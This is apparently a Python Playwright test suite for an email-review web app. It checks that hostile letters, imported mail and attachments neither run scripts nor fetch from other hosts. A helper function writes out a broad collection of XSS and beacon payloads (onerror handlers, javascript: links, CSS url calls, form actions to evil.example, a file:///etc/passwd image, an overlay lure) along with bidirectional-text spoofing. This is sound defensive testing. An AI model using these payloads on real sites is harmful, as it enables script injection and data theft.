"""A letter that wants more than to be read: nothing in it loads, runs, leads anywhere or covers the desk."""

import re
from collections.abc import Iterator
from contextlib import ExitStack
from html import escape

import pytest
from mcp_types import Implementation
from playwright.sync_api import BrowserContext, Dialog, Page, expect

from scripts.scenes import png
from tests.agents import visiting_inside
from tests.browser.served import Room, Trap, Visits, trap, until
from tests.narrow import present

PWNED = "window.pwned=1;window.top.pwned=1;alert(1)"
TAG = f'<img src=x onerror="{PWNED}">'
FLAG = "() => Boolean(window.pwned)"


def hostile(evil: str) -> str:
    """Return a page of HTML that tries everything it can think of against these addresses."""
    return f"""<!doctype html><html><head>
<base href="{evil}/base/">
<meta http-equiv="refresh" content="0; url={evil}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="preconnect" href="{evil}"><link rel="dns-prefetch" href="//evil.example">
<link rel="prefetch" href="{evil}/prefetch"><link rel="preload" as="image" href="{evil}/preload">
<link rel="stylesheet" href="{evil}/style.css"><link rel="icon" href="{evil}/icon"><link rel="manifest" href="{evil}/manifest">
<style>@import "{evil}/import.css"; @import url({evil}/import2.css); @font-face {{ font-family: f; src: url({evil}/font) }}
body {{ background: url({evil}/css) ; font-family: f }} p {{ position: fixed; inset: 0 }} </style>
<script>{PWNED}; fetch("{evil}/fetch"); new Image().src="{evil}/image"; open("{evil}/open")</script>
<script src="{evil}/script.js"></script><script type="module" src="{evil}/module.js"></script></head>
<body onload="{PWNED}" background="{evil}/background" style="background:url({evil}/inline)">
{TAG}<svg onload="{PWNED}"><image href="{evil}/svg"/><use href="{evil}/use#a"/><script>{PWNED}</script></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror="{PWNED}"></style></mglyph></math>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>{PWNED}</script>"></iframe><iframe src="javascript:{PWNED}"></iframe>
<object data="{evil}/object"></object><video src="{evil}/video" poster="{evil}/poster" autoplay></video>
<audio src="{evil}/audio" autoplay></audio><picture><source srcset="{evil}/source"><img src="{evil}/picture"></picture>
<img src="{evil}/pixel.png" width=1 height=1><img srcset="{evil}/srcset 2x"><img src="//evil.example/pixel"><img src="file:///etc/passwd">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"><input type=image src="{evil}/input">
<form action="{evil}/form" method="post"><input name=secret value=1><button id=send formaction="{evil}/formaction">Send</button></form>
<div style="background-image:url('{evil}/div')">a</div><div style="background:u\\72l({evil}/escape)">b</div>
<div style="background:image-set('{evil}/set' 1x)">c</div><div style="list-style:url({evil}/list);cursor:url({evil}/cursor),auto">d</div>
<div style="position:fixed;inset:0;z-index:99999;background:white" onclick="{PWNED}">Approved already</div>
<a href="{evil}/link" ping="{evil}/ping" target="_top">plain link</a> <a href="{evil}/blank" target="_blank">new window</a>
<a href="javascript:{PWNED}">script link</a> <a href="JaVa\tScRiPt:{PWNED}">odd script link</a>
<a href="data:text/html,<script>{PWNED}</script>">data link</a> <a href="{evil}/download" download>download</a>
<a href="/out" target="_top">our own</a> <a href="#here">anchor</a>
<details open ontoggle="{PWNED}"><summary onclick="{PWNED}">more</summary>x</details>
<marquee onstart="{PWNED}">x</marquee><input autofocus onfocus="{PWNED}"><select autofocus onfocus="{PWNED}"></select>
<table background="{evil}/table"><td background="{evil}/cell">cell</table><noscript><img src="{evil}/noscript"></noscript>
<template><img src="{evil}/template" onerror="{PWNED}"></template><!--><img src=x onerror="{PWNED}">-->
<p>{"w" * 5000}</p><embed src="{evil}/embed"></body></html>"""


class Watch:
    """Everything that a browser's window asks for, opens or says."""

    def __init__(self, context: BrowserContext) -> None:
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        self.windows: list[Page] = []
        self.downloads: list[str] = []
        context.on("request", lambda request: self.asked.append(request.url))
        context.on("page", self._opened)

    def _opened(self, page: Page) -> None:
        self.windows.append(page)
        page.on("dialog", self._asked)
        page.on("download", lambda download: self.downloads.append(download.url))

    def _asked(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def foreign(self, address: str) -> list[str]:
        """Return what was asked for elsewhere."""
        return [url for url in self.asked if not url.startswith(f"{address}/")]


@pytest.fixture
def evil() -> Iterator[Trap]:
    with trap() as made:
        yield made


@pytest.fixture
def looked_at(desk: Room, visits: Visits, evil: Trap) -> Iterator[Page]:
    """A hostile letter's page, and what was seen of it."""
    at = f"http://127.0.0.1:{evil.port}"
    info = Implementation(name=f"zed{TAG}", version="1")
    words = f"Hello {TAG} <script>{PWNED}</script> {at}/text javascript:alert(1) {'x' * 5000}"
    with visiting_inside(desk.person, agent="", client_info=info) as agent:
        asked = {
            "to": ["ann@example.com"],
            "subject": f"Hello {TAG}</title><script>{PWNED}</script>",
        }
        assert agent.call("send_email", **asked, html=hostile(at)).refused == "invalid_input"
        id = agent.done("send_email", **asked, html=f"<p>{escape(words)}</p>")["letter"]
    context = visits.window(storage_state=desk.cookies(visits._browser, "Ada"))
    watch = Watch(context)
    page = context.new_page()
    page.goto(desk.url(id))
    yield page
    page.wait_for_load_state("load")
    assert watch.foreign(desk.address) == []
    assert watch.dialogs == []
    assert watch.downloads == []
    assert watch.windows == [page]
    assert [one.evaluate(FLAG) for one in page.frames] == [False] * len(page.frames)
    assert evil.hits == []
    assert desk.person.show(id)["state"] == "pending"


def test_the_same_page_elsewhere_would_have_done_all_that(visits: Visits, evil: Trap) -> None:
    """What is looked for below would be seen, if it happened."""
    visits.tolerated = "."
    context = visits.window()
    watch = Watch(context)
    at = f"http://127.0.0.1:{evil.port}"
    quiet = hostile(at).replace("refresh", "later").replace(";alert(1)", "")  # one dialog will do
    with trap(lambda: f"<script>alert(1)</script>{quiet}") as other:
        page = context.new_page()
        page.goto(f"http://127.0.0.1:{other.port}/")
        assert page.evaluate(FLAG)
        assert watch.dialogs == ["1"]
        assert len(watch.windows) > 1
        until(lambda: any("/pixel.png" in hit for hit in evil.hits))
        assert len(evil.hits) > 10
        assert watch.foreign(f"http://127.0.0.1:{other.port}")


def test_nothing_of_it_loads_or_runs(looked_at: Page) -> None:
    page = looked_at
    assert "Hello <img" in page.title()
    expect(page.locator("h1")).to_contain_text("<script>")
    expect(page.locator(".state .by")).to_contain_text("zed<img")
    expect(page.locator("#letter .body")).to_contain_text("<img src=x")
    addresses = [link.get_attribute("href") for link in page.locator("#letter .body a").all()]
    assert all(re.fullmatch("#note-[0-9]+", present(address)) for address in addresses), addresses


def test_its_source_is_text(looked_at: Page, desk: Room) -> None:
    page = looked_at
    answer = present(page.goto(page.url + "/source"))
    assert answer.headers["content-type"].startswith("text/plain")
    assert answer.headers["x-content-type-options"] == "nosniff"
    expect(page.locator("body")).to_contain_text("&lt;script&gt;")


def test_no_list_or_form_of_the_desk_runs_it(looked_at: Page, desk: Room) -> None:
    page = looked_at
    id = page.url.rpartition("/")[2]
    for path in ("/", "/agents", "/history?agent=zed%3Cimg&q=%3Cscript%3E", f"/letter/{id}/edit"):
        page.goto(desk.address + path)
        assert not page.evaluate(FLAG)
    page.get_by_label("Text").fill(f"{TAG} changed")
    page.get_by_role("button", name="Review the changes").click()
    expect(page.locator("ins").first).to_be_visible()


def test_text_that_turns_around_is_shown_as_it_is(desk: Room, visits: Visits) -> None:
    """Bidirectional and hidden characters are taken out or named; none reaches the eye unseen."""
    with ExitStack() as stack:
        agent = stack.enter_context(visiting_inside(desk.person))
        said = agent.call(
            "send_email",
            to=["ann@example.com"],
            subject="Pay now \u05d0\u05d1\u05d2",
            html="<p>Send to \u202eABC\u202c and a\u200bb \u2066x\u2069 \u05d0\u05d1\u05d2</p>",
        )
    id = said.values["letter"]
    page = visits.letter(desk, id)
    for query in ("h1", "#letter .body", f'#queue a[href="/letter/{id}"]'):
        text = page.locator(query).inner_text()
        assert not {"\u202e", "\u202c", "\u2066", "\u2069", "\u200b"} & set(text), query
    assert "\u05d0\u05d1\u05d2" in page.locator("#letter .body").inner_text()
    assert page.locator("h1 bdi").get_attribute("dir") == "auto"
    assert "\u202e" not in page.title()


def test_mail_in_the_conversation_does_not_run_either(
    desk: Room, visits: Visits, evil: Trap
) -> None:
    mail = desk.person.folder / "hostile.eml"
    at = f"http://127.0.0.1:{evil.port}"
    mail.write_text(
        "From: Mallory <m@evil.example>\nTo: you@example.org\nMessage-ID: <1@evil.example>\n"
        "Date: Mon, 16 Nov 2026 08:00:00 +0000\nSubject: =?utf-8?q?=3Cscript=3E?=\n"
        f'Content-Type: text/html\n\n<p>Mallory writes</p>{TAG}<img src="{at}/pixel">&lt;img src=x onerror="{PWNED}"&gt;\n'
    )
    assert desk.person.run("import", str(mail)).code == 0
    found = desk.agent.first("from:m@evil.example")
    id = desk.agent.done("reply_email", id=found, body="No.")["letter"]
    page = visits.letter(desk, id)
    page.locator("#beside-link").click()
    expect(page.locator(".thread")).to_contain_text("Mallory writes")
    expect(page.locator(".thread")).to_contain_text("<img src=x")
    assert not page.evaluate(FLAG)
    assert evil.hits == []


def test_a_preview_runs_nothing_and_fetches_nothing(desk: Room, visits: Visits, evil: Trap) -> None:
    """A picture that is none, and a page: their beginnings are shown as text, and a real picture as a picture."""
    at = f"http://127.0.0.1:{evil.port}"
    outgoing = desk.person.vault / "Outgoing"
    outgoing.mkdir(exist_ok=True)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWNED}"><image href="{at}/svg"/><script>{PWNED}</script></svg>'
    (outgoing / "photo.png").write_text(svg)
    (outgoing / "page.html").write_text(hostile(at))
    (outgoing / "real.png").write_bytes(png(48, 24))
    (outgoing / "both.gif").write_bytes(b"GIF89a\x10\0\x10\0" + hostile(at).encode())
    names = ["photo.png", "page.html", "real.png", "both.gif"]
    visits.tolerated = (
        "Failed to load resource|inline style"  # the GIF that is none, and how Chromium shows it
    )
    id = desk.propose(attachments=[f"Outgoing/{name}" for name in names])
    context = visits.window(storage_state=desk.cookies(visits._browser, "Ada"))
    watch = Watch(context)
    page = context.new_page()
    page.goto(desk.url(id))
    for summary in page.locator(".files summary").all():
        summary.click()
    expect(page.locator(".files .preview").first).to_contain_text("<svg xmlns=")
    expect(page.locator(".files .preview").nth(1)).to_contain_text("<base href=")
    expect(page.locator(".files img")).to_have_count(2)
    page.wait_for_function("() => [...document.querySelectorAll('.files img')].every((one) => one.complete)")  # fmt: skip
    assert page.locator(".files img").first.evaluate("one => one.naturalWidth") == 48
    assert page.locator(".files script, .files svg, .files iframe, .files object").count() == 0
    for number in (0, 1):
        assert present(page.request.get(desk.url(id, f"/image/{number}"))).status == 404
    for number, kind in ((2, "image/png"), (3, "image/gif")):
        answer = page.request.get(desk.url(id, f"/image/{number}"))
        assert answer.headers["content-type"] == kind
        assert answer.headers["x-content-type-options"] == "nosniff"
        page.goto(desk.url(id, f"/image/{number}"))  # as a page of its own it does no more
        assert not page.evaluate(FLAG)
    for number in range(4):
        answer = page.request.get(desk.url(id, f"/file/{number}"))
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment")
    assert watch.foreign(desk.address) == []
    assert (watch.dialogs, watch.downloads, watch.windows) == ([], [], [page])
    assert evil.hits == []
